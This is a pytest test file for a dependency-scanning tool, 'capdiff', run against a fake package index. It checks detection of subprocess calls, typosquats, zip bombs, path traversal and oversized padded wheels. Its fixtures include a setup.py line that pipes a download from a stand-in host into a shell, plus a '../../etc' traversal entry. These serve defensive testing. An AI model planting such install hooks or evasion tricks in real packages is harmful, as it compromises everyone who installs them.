"""`capdiff inspect|compare|scan` end to end: a fake index over real HTTP, built packages."""

from __future__ import annotations

import json
import random
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.cli import main
from tests.analysis.builders import TarEntry, build_sdist, build_wheel, raw_tar, raw_zip
from tests.fakes.index import FakeIndex
from tests.fakes.server import serve_app
from tests.gitfixture import commit, git, new_repo

BENIGN = "def run():\n    return 1\n"
SHELL = "import subprocess\n\ndef run():\n    return subprocess.run(['curl', 'https://example.com/x'])\n"
SHELL_EVIDENCE = "return subprocess.run(['curl', 'https://example.com/x'])"
INSTALL_CURL = "import os\nos.system('curl https://x.example/i.sh | sh')\n"
INSTALL_NETWORK_BLOCKS = "alerts:\n  install-network: block  # the deprecated name\n"
PADDED_PAYLOAD = "VERSION = '1.0'\n"


def padded_module(size: int) -> str:
    """A module over the per-file analysis limit: code, then comments that compress only
    about twofold (so no bomb check fires) up to `size` characters."""
    rng = random.Random(8)
    lines = [PADDED_PAYLOAD]
    total = len(PADDED_PAYLOAD)
    while total < size:
        line = f"# {rng.randbytes(60).hex()}\n"
        lines.append(line)
        total += len(line)
    return "".join(lines)


def publish(index: FakeIndex, name: str, version: str, files: dict[str, str]) -> None:
    """An sdist with every file and a wheel with the package's installed files."""
    index.add_sdist(name, version, files)
    installed = {p: c for p, c in files.items() if p.startswith(name.replace("-", "_") + "/")}
    index.add_wheel(name, version, installed)


@pytest.fixture(scope="module")
def fake() -> FakeIndex:
    index = FakeIndex()
    publish(index, "demo", "1.0", {"demo/__init__.py": BENIGN})
    publish(index, "demo", "2.0", {"demo/__init__.py": SHELL})
    # A new subprocess call only in the sdist's tests: nothing installed changes.
    publish(
        index,
        "demo",
        "2.1",
        {
            "demo/__init__.py": SHELL,
            "tests/test_demo.py": "import subprocess\nsubprocess.run(['ls'])\n",
        },
    )
    # The call moved to another module: not new.
    publish(
        index,
        "demo",
        "2.2",
        {"demo/__init__.py": "from demo.tools import run\n", "demo/tools.py": SHELL},
    )
    publish(index, "evil", "1.0", {"evil/__init__.py": BENIGN})
    index.add_sdist("evil", "2.0", {"evil/__init__.py": BENIGN, "setup.py": INSTALL_CURL})
    publish(index, "reqeusts", "1.0", {"reqeusts/__init__.py": BENIGN})
    # 2.0 requires a package that 1.0 did not: it is analyzed too.
    publish(index, "parent", "1.0", {"parent/__init__.py": BENIGN})
    index.add_sdist(
        "parent",
        "2.0",
        {
            "parent/__init__.py": BENIGN,
            "PKG-INFO": (
                "Metadata-Version: 2.1\nName: parent\nVersion: 2.0\nRequires-Dist: child>=1\n"
            ),
        },
    )
    index.add_sdist(
        "child",
        "1.0",
        {
            "child/__init__.py": "import os\nos.system('curl https://x.example/i.sh | sh')\n",
            "setup.py": INSTALL_CURL,
        },
    )
    # Listed, but its file is gone (404).
    index.add(
        "gone", "1.0", {"gone-1.0.tar.gz": build_sdist("gone", "1.0", {"gone/__init__.py": ""})}
    )
    index.fail("/files/gone/gone-1.0.tar.gz", 404, times=10**6)
    # A wheel padded past the 20 MB per-file limit: an unknown project, and a ranked one.
    padded = padded_module(21 * 1024 * 1024)
    index.add_wheel("padded", "1.0", {"padded/__init__.py": padded})
    index.add_wheel("requests", "99.0", {"requests/__init__.py": padded})
    # Hostile archives.
    index.add(
        "junk",
        "1.0",
        {"junk-1.0.tar.gz": b"not a tarball", "junk-1.0-py3-none-any.whl": b"PK\x03\x04junk"},
    )
    index.add(
        "bomb",
        "1.0",
        {"bomb-1.0-py3-none-any.whl": raw_zip({"bomb/__init__.py": b"\0" * 20_000_000})},
    )
    index.add(
        "traversal",
        "1.0",
        {
            "traversal-1.0.tar.gz": raw_tar(
                [
                    TarEntry(
                        name="traversal-1.0/PKG-INFO", data=b"Name: traversal\nVersion: 1.0\n"
                    ),
                    TarEntry(name="../../etc/evil.py", data=b"import os\n"),
                ]
            )
        },
    )
    return index


@pytest.fixture(scope="module")
def index_url(fake: FakeIndex) -> Iterator[str]:
    with serve_app(fake.app) as base:
        yield f"{base}/simple"


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def run_json(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, object]]:
    code, out, err = run(capsys, *args, "--format", "json")
    assert err == "" or code == 0, err
    return code, json.loads(out)


def common(index_url: str, cache: Path) -> list[str]:
    return ["--index-url", index_url, "--cache-dir", str(cache)]


def test_inspect_json_shape(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    code, document = run_json(capsys, "inspect", "demo==2.0", *common(index_url, tmp_path))
    assert code == 0
    # Four releases, the first in 2024 (by the simple API's upload times): neither new nor
    # established, so the policy table's actions apply.
    reputation = document.pop("reputation")
    assert isinstance(reputation, dict)
    assert (reputation["standing"], reputation["rank"], reputation["releases"]) == (
        "ordinary",
        None,
        4,
    )
    assert document == {
        "package": "demo",
        "version": "2.0",
        "alerts": [
            {
                "type": "shell",
                "severity": "medium",
                "action": "warn",
                "message": "Starts a process with subprocess.run.",
                "file": "demo/__init__.py",
                "line": 4,
                "evidence": SHELL_EVIDENCE,
                "artifact": "demo-2.0-py3-none-any.whl",
                "adjusted_by": "",
            },
            {
                "type": "no-source-link",
                "severity": "low",
                "action": "monitor",
                "message": "demo names no source repository, so its code cannot be checked "
                "against what was published.",
                "file": None,
                "line": None,
                "evidence": "",
                "artifact": "",
                "adjusted_by": "",
            },
        ],
        "incomplete": False,
        "incomplete_reasons": [],
        "notes": [],
    }


def alert_keys(document: dict[str, object]) -> list[tuple[object, ...]]:
    alerts = document["alerts"]
    assert isinstance(alerts, list)
    return [(a["type"], a["file"], a["line"]) for a in alerts]


def test_compare_reports_only_new_alerts_and_the_warm_run_downloads_nothing(
    capsys: pytest.CaptureFixture[str], fake: FakeIndex, index_url: str, tmp_path: Path
) -> None:
    code, document = run_json(
        capsys, "compare", "demo==1.0", "demo==2.0", *common(index_url, tmp_path)
    )
    assert code == 0
    assert document["old_version"] == "1.0" and document["new_version"] == "2.0"
    assert alert_keys(document) == [("shell", "demo/__init__.py", 4)]
    files_before = _file_rows(tmp_path)
    before = len(fake.requests)
    again = run_json(capsys, "compare", "demo==1.0", "demo==2.0", *common(index_url, tmp_path))
    assert again == (code, document)
    assert fake.requests[before:] == []  # index pages and archives all from the cache
    assert _file_rows(tmp_path) == files_before


def _file_rows(cache: Path) -> int:
    with sqlite3.connect(cache / "analysis.sqlite") as connection:
        (count,) = connection.execute("SELECT count(*) FROM file_results").fetchone()
    return int(count)


def test_compare_ignores_tests_and_moved_code(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    _, tests_only = run_json(
        capsys, "compare", "demo==2.0", "demo==2.1", *common(index_url, tmp_path)
    )
    assert alert_keys(tests_only) == []
    _, moved = run_json(capsys, "compare", "demo==2.0", "demo==2.2", *common(index_url, tmp_path))
    assert alert_keys(moved) == []


def test_local_archives(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    old = tmp_path / "demo-1.0-py3-none-any.whl"
    new = tmp_path / "demo-2.0-py3-none-any.whl"
    old.write_bytes(build_wheel("demo", "1.0", {"demo/__init__.py": BENIGN}))
    new.write_bytes(build_wheel("demo", "2.0", {"demo/__init__.py": SHELL}))
    args = ["--index-url", "http://127.0.0.1:9/simple", "--cache-dir", str(tmp_path / "c")]
    code, inspected = run_json(capsys, "inspect", str(new), *args)
    assert code == 0
    assert inspected["package"] == "demo" and inspected["version"] == "2.0"
    assert alert_keys(inspected) == [("shell", "demo/__init__.py", 4)]
    _, compared = run_json(capsys, "compare", str(old), str(new), *args)
    assert alert_keys(compared) == [("shell", "demo/__init__.py", 4)]
    _, same = run_json(capsys, "compare", str(new), str(new), *args)
    assert alert_keys(same) == []


def test_inspect_unknown_target_is_exit_2(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, out, err = run(capsys, "inspect", str(tmp_path / "missing.whl"))
    assert (code, out) == (2, "")
    assert "is neither name==version nor an existing archive file" in err


def test_inspect_missing_release_is_incomplete(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    code, document = run_json(capsys, "inspect", "gone==1.0", *common(index_url, tmp_path))
    assert code == 0
    assert document["incomplete"] is True
    (reason,) = document["incomplete_reasons"]  # type: ignore[misc]
    assert "gone-1.0.tar.gz: not found" in reason


@pytest.mark.parametrize(
    ("name", "code", "blocking", "reasons"),
    [
        (
            "bomb",
            1,
            [("unsafe-archive", "bomb/__init__.py"), ("incomplete-analysis", None)],
            [
                "bomb-1.0-py3-none-any.whl: 'bomb/__init__.py' not analyzed: "
                "compression ratio above 100"
            ],
        ),
        (
            "junk",
            1,
            [("incomplete-analysis", None)],
            [
                "junk-1.0.tar.gz: not a zip or tar archive",
                "junk-1.0-py3-none-any.whl: unreadable zip: File is not a zip file",
            ],
        ),
        (
            "traversal",
            1,
            [("unsafe-archive", "../../etc/evil.py"), ("incomplete-analysis", None)],
            ["traversal-1.0.tar.gz: '../../etc/evil.py' not analyzed: path traversal (..)"],
        ),
    ],
)
def test_hostile_archives_are_incomplete_not_a_crash(  # noqa: PLR0917 - pytest parameters
    capsys: pytest.CaptureFixture[str],
    index_url: str,
    tmp_path: Path,
    name: str,
    code: int,
    blocking: list[tuple[str, str]],
    reasons: list[str],
) -> None:
    exit_code, document = run_json(capsys, "inspect", f"{name}==1.0", *common(index_url, tmp_path))
    assert exit_code == code
    alerts = document["alerts"]
    assert isinstance(alerts, list)
    assert [(a["type"], a["file"]) for a in alerts if a["action"] == "block"] == blocking
    assert document["incomplete"] is True
    assert document["incomplete_reasons"] == reasons


# -- scan ----------------------------------------------------------------------------------------


def scan_repo(tmp_path: Path, base_files: dict[str, str], head_files: dict[str, str]) -> Path:
    repo = new_repo(tmp_path / "repo")
    commit(repo, base_files, "base")
    git(repo, "branch", "base")
    commit(repo, head_files, "head")
    return repo


def scan(
    capsys: pytest.CaptureFixture[str], repo: Path, index_url: str, cache: Path, fmt: str = "json"
) -> tuple[int, str, str]:
    return run(
        capsys,
        "scan",
        "--repo",
        str(repo),
        "--base",
        "base",
        "--head",
        "HEAD",
        "--format",
        fmt,
        *common(index_url, cache),
    )


def test_scan_upgrade_with_a_warning_passes_in_every_format(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = scan_repo(
        tmp_path, {"requirements.txt": "demo==1.0\n"}, {"requirements.txt": "demo==2.0\n"}
    )
    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
    assert code == 0
    document = json.loads(out)
    assert document["verdict"] == "pass"
    (package,) = document["packages"]
    assert (package["name"], package["change"], package["old_version"], package["new_version"]) == (
        "demo",
        "upgraded",
        "1.0",
        "2.0",
    )
    assert [(a["type"], a["action"]) for a in package["alerts"]] == [("shell", "warn")]
    code, text, _ = scan(capsys, repo, index_url, tmp_path / "cache", "text")
    assert code == 0
    assert text == (
        "1 changed dependency (requirements.txt)\n"
        "  ⚠  demo 1.0 → 2.0  shell demo/__init__.py:4\n"
        "no blocking findings, 1 warning — exit 0\n"
    )
    code, markdown, _ = scan(capsys, repo, index_url, tmp_path / "cache", "markdown")
    assert code == 0 and "demo" in markdown and "subprocess.run" in markdown


def test_scan_install_time_curl_blocks_when_the_policy_says_so(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    # The base branch's policy blocks install-time processes under their v1 name; a stated
    # action is never moved by reputation.
    repo = scan_repo(
        tmp_path,
        {"requirements.txt": "evil==1.0\n", ".github/capdiff.yml": INSTALL_NETWORK_BLOCKS},
        {"requirements.txt": "evil==2.0\n"},
    )
    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
    assert code == 1
    document = json.loads(out)
    assert document["verdict"] == "block"
    (package,) = document["packages"]
    assert ("block", "setup.py", 2) in [
        (a["action"], a["file"], a["line"]) for a in package["alerts"]
    ]


def test_scan_padded_wheel_of_an_unknown_package_blocks(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = scan_repo(
        tmp_path,
        {"requirements.txt": "demo==1.0\n"},
        {"requirements.txt": "demo==1.0\npadded==1.0\n"},
    )
    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
    document = json.loads(out)
    assert code == 1, document
    assert document["verdict"] == "block"
    (package,) = document["packages"]
    (unverified,) = [a for a in package["alerts"] if a["type"] == "incomplete-analysis"]
    assert unverified["action"] == "block"
    assert unverified["message"].startswith(
        "padded 1.0 could not be verified (new: first release "
    )
    # The reason names the file that was not read in full.
    assert "padded/__init__.py" in unverified["message"]


def test_scan_padded_wheel_of_a_ranked_project_is_neutral(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = scan_repo(
        tmp_path, {"requirements.txt": "demo==1.0\n"}, {"requirements.txt": "requests==99.0\n"}
    )
    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
    document = json.loads(out)
    assert code == 0, document
    assert document["verdict"] == "incomplete"
    (package,) = [p for p in document["packages"] if p["name"] == "requests"]
    assert package["incomplete_reasons"]
    assert "incomplete-analysis" not in [a["type"] for a in package["alerts"]]


def test_scan_policy_relaxes_incomplete_analysis(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    relaxed = "alerts:\n  incomplete-analysis: warn\n"
    repo = scan_repo(
        tmp_path,
        {"requirements.txt": "demo==1.0\n", ".github/capdiff.yml": relaxed},
        {"requirements.txt": "demo==1.0\npadded==1.0\n"},
    )
    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
    document = json.loads(out)
    assert (code, document["verdict"]) == (0, "incomplete")


def test_scan_bad_ref_is_exit_2(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = scan_repo(
        tmp_path, {"requirements.txt": "demo==1.0\n"}, {"requirements.txt": "demo==2.0\n"}
    )
    code, out, err = run(
        capsys,
        "scan",
        "--repo",
        str(repo),
        "--base",
        "no-such-ref",
        *common(index_url, tmp_path / "cache"),
    )
    assert (code, out) == (2, "")
    assert err.startswith("capdiff: ")


def test_scan_added_typosquat_blocks(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = scan_repo(
        tmp_path,
        {"requirements.txt": "demo==1.0\n"},
        {"requirements.txt": "demo==1.0\nreqeusts==1.0\n"},
    )
    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
    assert code == 1
    (package,) = json.loads(out)["packages"]
    assert package["name"] == "reqeusts" and package["change"] == "added"
    typosquat = [a for a in package["alerts"] if a["type"] == "typosquat"]
    assert [a["action"] for a in typosquat] == ["block"]
    assert "'requests'" in typosquat[0]["message"]


def test_scan_follows_a_new_requirement(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = scan_repo(
        tmp_path, {"requirements.txt": "parent==1.0\n"}, {"requirements.txt": "parent==2.0\n"}
    )
    _, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
    document = json.loads(out)
    by_name = {p["name"]: p for p in document["packages"]}
    assert sorted(by_name) == ["child", "parent"]
    child = by_name["child"]
    assert (child["change"], child["new_version"], child["via"]) == ("added", "1.0", ["parent"])
    # Its setup.py runs curl: an install-time process (a payload for the threat layer).
    assert {"install-network", "install-process", "install-time-payload"} & {
        a["type"] for a in child["alerts"]
    }


def test_scan_missing_release_is_incomplete(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = scan_repo(
        tmp_path,
        {"requirements.txt": "demo==1.0\n"},
        {"requirements.txt": "demo==1.0\ngone==1.0\n"},
    )
    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache")
    document = json.loads(out)
    assert (code, document["verdict"]) == (0, "incomplete")
    (package,) = document["packages"]
    assert package["name"] == "gone" and package["incomplete_reasons"]


def test_scan_policy_is_read_from_the_base_only(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    strict = "alerts:\n  shell: block\n"
    base_policy = scan_repo(
        tmp_path / "a",
        {"requirements.txt": "demo==1.0\n", ".github/capdiff.yml": strict},
        {"requirements.txt": "demo==2.0\n"},
    )
    code, out, _ = scan(capsys, base_policy, index_url, tmp_path / "cache")
    assert (code, json.loads(out)["verdict"]) == (1, "block")
    head_policy = scan_repo(
        tmp_path / "b",
        {"requirements.txt": "demo==1.0\n"},
        {"requirements.txt": "demo==2.0\n", ".github/capdiff.yml": strict},
    )
    code, out, _ = scan(capsys, head_policy, index_url, tmp_path / "cache")
    assert (code, json.loads(out)["verdict"]) == (0, "pass")
    # ...and a head that loosens the base's policy does not loosen this check.
    loosened = scan_repo(
        tmp_path / "c",
        {"requirements.txt": "demo==1.0\n", ".github/capdiff.yml": strict},
        {"requirements.txt": "demo==2.0\n", ".github/capdiff.yml": "alerts:\n  shell: ignore\n"},
    )
    code, _, _ = scan(capsys, loosened, index_url, tmp_path / "cache")
    assert code == 1


def test_index_credentials_never_reach_the_output(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    private = FakeIndex()
    publish(private, "demo", "1.0", {"demo/__init__.py": BENIGN})
    private.require_basic_auth("ci", "hunter2-secret")
    with serve_app(private.app) as base:
        host = base.removeprefix("http://")
        good = ["--index-url", f"http://ci:hunter2-secret@{host}/simple"]
        code, out, err = run(capsys, "inspect", "demo==1.0", *good, "--cache-dir", str(tmp_path))
        assert code == 0 and "hunter2" not in out + err
        assert "Part of this release could not be analyzed" not in out
        bad = ["--index-url", f"http://ci:wrong-secret@{host}/simple"]
        code, out, err = run(
            capsys, "inspect", "demo==1.0", *bad, "--cache-dir", str(tmp_path / "other")
        )
    assert code == 0
    assert "wrong-secret" not in out + err
    assert f"HTTP 401 from {base}/simple/demo/" in out


def test_scan_progress_goes_to_stderr_never_into_json(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = scan_repo(
        tmp_path,
        {
            "requirements.txt": "demo==1.0\nevil==1.0\nreqeusts==1.0\n",
            ".github/capdiff.yml": INSTALL_NETWORK_BLOCKS,
        },
        {"requirements.txt": "demo==2.0\nevil==2.0\nparent==2.0\n"},
    )
    code, out, err = scan(capsys, repo, index_url, tmp_path / "cache")
    assert code == 1
    assert {p["name"] for p in json.loads(out)["packages"]} >= {"demo", "evil", "parent"}
    lines = err.splitlines()
    assert lines[0].startswith("capdiff: analyzed 0/3 packages (")
    assert lines[-1].startswith("capdiff: analyzed 4/4 packages (")  # child, via parent


def test_scan_sarif_points_at_the_manifest_line(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    from tests.report.test_sarif import assert_valid

    repo = scan_repo(
        tmp_path,
        {
            "requirements.txt": "idna==3.7\nevil==1.0\n",
            ".github/capdiff.yml": INSTALL_NETWORK_BLOCKS,
        },
        {"requirements.txt": "idna==3.7\nevil==2.0\n"},
    )
    code, out, _ = scan(capsys, repo, index_url, tmp_path / "cache", "sarif")
    assert code == 1
    document = json.loads(out)
    assert_valid(document)
    results = document["runs"][0]["results"]
    blocking = [r for r in results if r["level"] == "error"]
    # `curl … | sh` in setup.py: a download run by a shell, while the package installs.
    assert {r["ruleId"] for r in blocking} == {"install-time-payload", "download-exec"}
    assert blocking[0]["ruleId"] == "install-time-payload"
    for result in blocking:
        assert result["locations"][0]["physicalLocation"] == {
            "artifactLocation": {"uri": "requirements.txt", "uriBaseId": "%SRCROOT%"},
            "region": {"startLine": 2},
        }
    assert "At setup.py:2 in evil-2.0.tar.gz: os.system(" in blocking[0]["message"]["text"]


def test_inspect_and_compare_sarif(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    from tests.report.test_sarif import assert_valid

    old = tmp_path / "demo-1.0-py3-none-any.whl"
    new = tmp_path / "demo-2.0-py3-none-any.whl"
    old.write_bytes(build_wheel("demo", "1.0", {"demo/__init__.py": BENIGN}))
    new.write_bytes(build_wheel("demo", "2.0", {"demo/__init__.py": SHELL}))
    args = ["--cache-dir", str(tmp_path / "c"), "--format", "sarif"]
    for argv in (["inspect", str(new)], ["compare", str(old), str(new)]):
        code, out, _ = run(capsys, *argv, *args)
        assert code == 0
        document = json.loads(out)
        assert_valid(document)
        (result,) = document["runs"][0]["results"]
        assert result["ruleId"] == "shell"
        assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
            "demo/__init__.py"
        )


def _scan_side(
    capsys: pytest.CaptureFixture[str], repo: Path, index_url: str, cache: Path, *extra: str
) -> tuple[int, list[tuple[str, str]], str]:
    code, out, err = run(
        capsys, "scan", "--repo", str(repo), *extra, "--format", "json", *common(index_url, cache)
    )
    if code == 2:
        return code, [], err
    packages = json.loads(out)["packages"]
    return code, [(p["name"], p["change"]) for p in packages], err


def test_scan_worktree_and_staged_sides(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = new_repo(tmp_path / "repo")
    commit(
        repo, {"requirements.txt": "demo==1.0\n", ".github/capdiff.yml": INSTALL_NETWORK_BLOCKS},
        "base",
    )
    cache = tmp_path / "cache"
    (repo / "requirements.txt").write_text("demo==2.0\n", encoding="utf-8")
    # Without --head: the working tree against HEAD.
    assert _scan_side(capsys, repo, index_url, cache)[:2] == (0, [("demo", "upgraded")])
    # --staged: nothing staged yet.
    assert _scan_side(capsys, repo, index_url, cache, "--staged")[:2] == (0, [])
    git(repo, "add", "requirements.txt")
    (repo / "requirements.txt").write_text("demo==1.0\n", encoding="utf-8")
    assert _scan_side(capsys, repo, index_url, cache, "--staged")[:2] == (
        0, [("demo", "upgraded")]
    )
    assert _scan_side(capsys, repo, index_url, cache)[:2] == (0, [])
    # An untracked new manifest counts in the working tree.
    (repo / "requirements-extra.txt").write_text("evil==2.0\n", encoding="utf-8")
    assert _scan_side(capsys, repo, index_url, cache)[:2] == (1, [("evil", "added")])
    with pytest.raises(SystemExit) as usage:
        main(["scan", "--repo", str(repo), "--staged", "--head", "HEAD"])
    assert usage.value.code == 2
    assert "argument --head: not allowed with argument --staged" in capsys.readouterr().err


def test_scan_staged_before_the_first_commit(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = new_repo(tmp_path / "repo")
    (repo / "requirements.txt").write_text("demo==2.0\n", encoding="utf-8")
    git(repo, "add", "requirements.txt")
    assert _scan_side(capsys, repo, index_url, tmp_path / "c", "--staged")[:2] == (
        0, [("demo", "added")]
    )


def test_scan_reads_the_named_policy_at_the_base(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    policy = "alerts:\n  shell: block\n"
    repo = new_repo(tmp_path / "repo")
    commit(repo, {"requirements.txt": "demo==1.0\n", "ci/capdiff.yml": policy}, "base")
    (repo / "requirements.txt").write_text("demo==2.0\n", encoding="utf-8")
    (repo / "ci" / "capdiff.yml").write_text("alerts:\n  shell: ignore\n", encoding="utf-8")
    code, packages, _ = _scan_side(
        capsys, repo, index_url, tmp_path / "c", "--policy", "ci/capdiff.yml"
    )
    assert (code, packages) == (1, [("demo", "upgraded")])  # the base's "block" applies


def test_scan_follows_a_changed_file_that_an_unchanged_requirements_file_includes(
    capsys: pytest.CaptureFixture[str], index_url: str, tmp_path: Path
) -> None:
    repo = new_repo(tmp_path / "repo")
    commit(
        repo,
        {
            "requirements.txt": "-r deps/common.txt\nidna==3.7\n",
            "deps/common.txt": "demo==1.0\n",
            "notes.txt": "not included by anything\n",
        },
        "base",
    )
    git(repo, "branch", "base")
    commit(repo, {"deps/common.txt": "demo==2.0\n", "notes.txt": "changed\n"}, "bump")
    code, packages, _ = _scan_side(capsys, repo, index_url, tmp_path / "c", "--base", "base",
                                   "--head", "HEAD")
    assert (code, packages) == (0, [("demo", "upgraded")])
    # The same in the working tree and staged.
    (repo / "deps" / "common.txt").write_text("demo==2.1\n", encoding="utf-8")
    code, packages, _ = _scan_side(capsys, repo, index_url, tmp_path / "c")
    assert (code, packages) == (0, [("demo", "upgraded")])
